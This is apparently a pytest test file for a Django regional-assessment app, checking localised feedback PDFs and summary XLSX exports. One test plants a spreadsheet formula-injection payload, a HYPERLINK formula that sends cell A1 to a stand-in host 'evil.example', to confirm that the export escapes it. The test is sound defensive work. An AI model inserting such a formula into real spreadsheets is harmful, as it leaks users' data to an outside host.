"""The feedback PDF and the round summary XLSX, generated and read back."""

from __future__ import annotations

import dataclasses
import io
import re

import pytest
from django.utils import translation
from openpyxl import load_workbook

from kotacerdas.assessment.domain.feedback import build_feedback
from kotacerdas.assessment.models import RegionResult
from kotacerdas.assessment.reports.feedback_pdf import feedback_pdf
from kotacerdas.assessment.reports.summary_xlsx import RESULT_HEADER, summary_xlsx
from kotacerdas.engine.review.rounding import half_up
from tests.assessment.test_results import _finish

pytestmark = pytest.mark.django_db


def pdf_lines(data: bytes) -> list[str]:
    """The text lines of an uncompressed reportlab PDF (each ``BT … ET`` block's ``Tj`` strings)."""
    lines = []
    for block in re.findall(rb"BT(.*?)ET", data, flags=re.S):
        parts = re.findall(rb"\(((?:\\.|[^\\)])*)\)\s*Tj", block)
        text = b"".join(re.sub(rb"\\(.)", rb"\1", p) for p in parts).decode("latin-1")
        if text:
            lines.append(text)
    return lines


def test_feedback_pdf_has_scores_comments_and_next_steps(aworld, users):
    _finish(aworld, users)
    sub = aworld.submissions["35.71"]
    feedback = build_feedback(sub)
    result = RegionResult.objects.get(submission=sub)
    outcome = next(c for c in feedback.criteria if c.id == "outcome")
    assert outcome.mean == 3.415  # decimal mean of 3.23 and 3.6
    assert outcome.comments == ("komentar asesor untuk 35.71", "komentar asesor-2 untuk 35.71")
    assert outcome.reached.startswith("Sebagian besar program yang direncanakan berjalan")
    assert outcome.next_step.startswith("Program berjalan dan diukur terhadap IKU")
    data = feedback_pdf(feedback)
    assert data.startswith(b"%PDF-")
    text = "\n".join(pdf_lines(data))
    assert "Umpan balik penilaian: Kota Kediri (35.71)" in text
    assert f"nilai terkalibrasi {str(half_up(result.calibrated, 2)).replace('.', ',')}" in text
    assert f"peringkat {result.rank} dari 4" in text
    assert "Outcome: 3,42" in text  # 3.415 half up, with the Indonesian decimal comma
    assert "komentar asesor-2 untuk 35.71" in text
    assert text.count("Cara meningkatkan:") == 5


def test_feedback_pdf_reads_in_english_for_an_english_reader(aworld, users):
    _finish(aworld, users)
    with translation.override("en"):
        feedback = build_feedback(aworld.submissions["35.71"])
        text = "\n".join(pdf_lines(feedback_pdf(feedback)))
    outcome = next(c for c in feedback.criteria if c.id == "outcome")
    assert outcome.reached.startswith("Most planned programmes run with budget")
    assert outcome.next_step.startswith("Programmes run and are measured against KPIs")
    assert "Assessment feedback: Kota Kediri (35.71)" in text
    assert "Outcome: 3.42" in text
    assert text.count("How to improve:") == 5 and "Cara meningkatkan" not in text


def test_feedback_pdf_shows_markup_in_comments_as_text(aworld, users):
    _finish(aworld, users)
    feedback = build_feedback(aworld.submissions["35.71"])
    comments = ("x<y & y>z", "<b>tebal</b> <font size=40>besar</font>", "<para>")
    criteria = tuple(dataclasses.replace(c, comments=comments) for c in feedback.criteria)
    text = "\n".join(pdf_lines(feedback_pdf(dataclasses.replace(feedback, criteria=criteria))))
    assert "Komentar asesor: x<y & y>z" in text
    assert "Komentar asesor: <b>tebal</b> <font size=40>besar</font>" in text
    assert "Komentar asesor: <para>" in text


def test_summary_xlsx_reads_back(aworld, users):
    _finish(aworld, users)
    book = load_workbook(io.BytesIO(summary_xlsx(aworld.round)))
    assert book.sheetnames == ["Hasil", "Penghargaan", "Skor", "Penugasan", "Angka"]
    rows = list(book["Hasil"].iter_rows(values_only=True))
    assert list(rows[0]) == [str(c.label) for c in RESULT_HEADER]
    assert rows[0][:4] == ("Kode", "Daerah", "Skor mentah", "Skor terkalibrasi")
    stored = {r.submission.participation.region.code: r for r in RegionResult.objects.all()}
    # XLSX keeps 15 significant digits
    assert {row[0]: (round(row[3], 12), row[4]) for row in rows[1:]} == {
        code: (round(r.calibrated, 12), r.rank) for code, r in stored.items()
    }
    calibrated = book["Hasil"]["D2"]
    assert calibrated.data_type == "n" and calibrated.number_format == "#,##0.0000"
    assert len(list(book["Skor"].iter_rows())) == 1 + 8 * 5
    assignment = list(book["Penugasan"].iter_rows(values_only=True))
    assert len(assignment) == 1 + 8
    assert {row[5] for row in assignment[1:]} == {"Dikirim"}  # the review state's label, not "submitted"
    assert {row[3] for row in assignment[1:]} <= {"Penugasan optimal", "Diganti sekretariat"}
    figures = {row[0]: row[1] for row in book["Angka"].iter_rows(min_row=2, values_only=True)}
    assert set(figures) >= {"alpha", "icc", "calibration", "ranking", "ratings"}
    assert figures["ratings"] == 8  # a number stays a numeric cell


def test_summary_xlsx_in_english(aworld, users):
    _finish(aworld, users)
    with translation.override("en"):
        book = load_workbook(io.BytesIO(summary_xlsx(aworld.round)))
    assert book.sheetnames == ["Results", "Awards", "Scores", "Assignment", "Figures"]
    assert [c.value for c in book["Results"][1]][:5] == [
        "Code",
        "Region",
        "Raw score",
        "Calibrated score",
        "Rank",
    ]
    assert [c.value for c in book["Awards"][1]][:2] == ["Category", "Place"]
    assert {row[5] for row in book["Assignment"].iter_rows(min_row=2, values_only=True)} == {"Submitted"}
    assert {row[2] for row in book["Scores"].iter_rows(min_row=2, values_only=True)} == {"Submitted"}


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


def test_round_summary_xlsx_comment_is_not_a_formula(aworld, users):
    from kotacerdas.assessment.models import Score

    _finish(aworld, users)
    Score.objects.filter(comment__startswith="komentar").update(comment=FORMULA)
    book = load_workbook(io.BytesIO(summary_xlsx(aworld.round)))
    comments = [c for c in book["Skor"]["G"][1:] if c.value]
    assert comments and all(c.data_type == "s" and c.value == "'" + FORMULA for c in comments)
    assert not [c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f"]
